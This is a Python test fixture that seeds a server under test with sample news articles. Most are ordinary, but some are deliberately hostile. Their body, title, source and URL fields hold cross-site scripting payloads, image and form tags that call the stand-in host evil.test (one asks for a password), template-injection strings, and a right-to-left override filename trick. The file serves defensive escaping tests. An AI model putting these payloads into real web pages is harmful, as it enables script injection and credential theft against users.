"""The articles that the server under test holds: the seed, ordinary ones, and hostile ones."""

import json
import shutil
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path

from tests.seed import SEEDS, TURKEY

LEAK = "evil.test"  # the host that hostile markup calls; nothing may ever ask it
RAN = "window.footnoteRan=1"  # what hostile markup would run


@dataclass(frozen=True)
class Written:
    """An article as a file with its sidecar. `name` is its id."""

    name: str
    text: str
    title: str
    source: str | None = None
    date: str | None = None
    url: str | None = None


HARBOUR = Written(
    "harbour/dredging",
    "The harbour board approved the dredging of the northern channel on Monday.\n\n"
    "“The channel will be four metres deeper by autumn,” said Ruth Amsel, the harbour master.\n\n"
    "The dredging costs nine million crowns, which the board pays from its reserves.\n",
    "Northern channel to be dredged",
    "Harbour Gazette",
    "2021-05-03",
    "https://news.intranet.test/harbour/dredging",
)
ORCHARD = Written(
    "orchard/frost",
    "Late frost destroyed a third of the cherry blossom in the valley.\n\n"
    "“We lit four hundred candles between the cherry trees,” said the grower Pavel Horn.\n\n"
    "The cherry harvest begins three weeks later than in other years.\n",
    "Frost in the cherry orchards",
    "Valley Herald",
    "2019-04",
    "https://elsewhere.test/orchard",
)
GERMAN = Written(
    "stadt/brücke",
    "Die Stadt erneuert die alte Steinbrücke über die Saale für zwölf Millionen Euro.\n\n"
    "„Die Brücke wird im März für Radfahrer geöffnet“, sagte die Bürgermeisterin Jana Köhler.\n",
    "Neue Brücke über die Saale",
    "Stadtanzeiger",
    "2022-11-20",
)
ARABIC = Written(
    "مدينة/مكتبة",
    "افتتحت المدينة مكتبة عامة جديدة تضم أربعين ألف كتاب قرب الميناء القديم.\n\n"
    "وقالت مديرة المكتبة سلمى حداد إن المكتبة تفتح أبوابها كل يوم حتى الساعة التاسعة.\n",
    "مكتبة جديدة قرب الميناء",
    "صحيفة المدينة",
    "2023",
)
EMOJI = Written(
    "aquarium",
    "🐙🐙🐙 The aquarium 🐠 keeps an octopus named Umbra 🐙 in the great tank.\n\n"
    "👩🏽‍🔬 The octopus Umbra opens jars 🫙 in eleven seconds, which no other octopus does.\n\n"
    "👨‍👩‍👧‍👦 Families visit the octopus on Sundays.\n",
    "Umbra 🐙 the octopus",
    "Harbour Gazette",
    "2020-02-29",
)
MARKUP = Written(
    f'"><img src=x onerror={RAN}> & co',
    f'The ferry <img src="http://{LEAK}/a.png" onerror="{RAN}"> sails to the island at nine.\n\n'
    f"The ferry captain <script>{RAN}</script> wears <b>boots</b> & a <mark>hat</mark>.\n\n"
    f'The ferry cook <a href="javascript:{RAN}">bakes</a> bread </pre></q></p></div> at dawn.\n\n'
    f'The ferry shop <form action="http://{LEAK}/"><input type="password" name="p"></form>'
    " sells rope.\n\n"
    '<div style="position:fixed;inset:0;background:red;z-index:9999">The ferry ticket costs six'
    " crowns</div> on weekdays.\n\n"
    f'The ferry mate <iframe srcdoc="&lt;script&gt;parent.{RAN}&lt;/script&gt;"></iframe>'
    " steers on Fridays.\n",
    f"</title><script>{RAN}</script><img src=x onerror={RAN}>Ferry & sons",
    f'<i onclick="{RAN}">Ferry News</i>',
    "2018-07-16",
    f"https://news.intranet.test/?q=<script>{RAN}</script>".replace(" ", ""),
)
MARKDOWN = Written(
    f"notes/[go](javascript:{RAN.replace('/', '')}) **b** `c`",
    f"The lighthouse ![lamp](http://{LEAK}/lamp.png) turns every seven seconds.\n\n"
    f"The lighthouse keeper [keeps](javascript:{RAN}) a [log](data:text/html,<b>x</b>) of gulls."
    "\n\n"
    "The lighthouse stair [[9]](#fn-none-9) has ninety steps [7] and **no** `rail` at all.\n\n"
    "The lighthouse lens follows $\\frac{1}{f}=\\frac{1}{u}$ and $$x^2$$ since eighteen eighty.\n\n"
    f'```mermaid\ngraph TD; A["<img src=x onerror={RAN}>"] --> B\n```\n\n'
    "{{constructor}} ${constructor} The lighthouse foghorn sounds in {{7*7}} winds.\n",
    f"# Lighthouse [log](javascript:{RAN}) ![p](http://{LEAK}/p.png) **bold** $x^2$",
    "Coast *Weekly*",
    "2018-07",
)
BIDI = Written(
    "mill",
    "The paper mill by the river reopened with sixty workers.\n\n"
    "The mill\u202e owner \u202c promised new filters for the chimney.\n",
    "Mill \u202e gnp.exe reopened",
)
LONG = Written(
    "chronicle",
    "\n\n".join(
        f"In year {year} of the chronicle the village of Oldfield counted {year * 7} sheep."
        for year in range(101, 221)
    )
    + "\n\nThe bell tower of Oldfield was struck by lightning during the midsummer fair.\n\n"
    + "\n\n".join(
        f"In year {year} of the chronicle the village of Oldfield sold {year * 3} fleeces."
        for year in range(221, 301)
    ),
    "The chronicle of Oldfield",
    "Parish Archive",
    "1999",
)
ALL = (HARBOUR, ORCHARD, GERMAN, ARABIC, EMOJI, MARKUP, MARKDOWN, BIDI, LONG)

DREDGING = "What does the dredging of the northern channel cost?"
HOSTILE = {  # a question, and words of the hostile sentence that its answer must quote as text
    "When does the ferry sail to the island?": '<img src="http://evil.test/a.png"',
    "What does the ferry captain wear?": "<script>window.footnoteRan=1</script>",
    "What does the ferry cook bake?": '<a href="javascript:window.footnoteRan=1">bakes</a>',
    "What does the ferry shop sell?": '<form action="http://evil.test/">',
    "What does the ferry ticket cost?": '<div style="position:fixed',
    "When does the ferry mate steer?": "<iframe srcdoc=",
    "How often does the lighthouse turn?": "![lamp](http://evil.test/lamp.png)",
    "What does the lighthouse keeper keep?": "[keeps](javascript:window.footnoteRan=1)",
    "How many steps has the lighthouse stair?": "[[9]](#fn-none-9) has ninety steps [7]",
    "What does the lighthouse lens follow?": "$\\frac{1}{f}=\\frac{1}{u}$ and $$x^2$$",
    "In what winds does the lighthouse foghorn sound?": "{{7*7}}",
}
REFUSED = "what did Fanning say about tariffs"
__all__ = ["ALL", "DREDGING", "HOSTILE", "LEAK", "RAN", "REFUSED", "TURKEY", "Written", "write_all"]


def write_all(folder: Path, articles: Sequence[Written] = ALL) -> Path:
    """Write the seed and these articles into a folder that is not there yet."""
    shutil.copytree(SEEDS, folder)
    for article in articles:
        path = folder / f"{article.name}.txt"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(article.text, encoding="utf-8")
        known = {key: getattr(article, key) for key in ("title", "source", "date", "url")}
        sidecar = path.with_suffix(".json")
        sidecar.write_text(json.dumps(known, ensure_ascii=False), encoding="utf-8")
    return folder
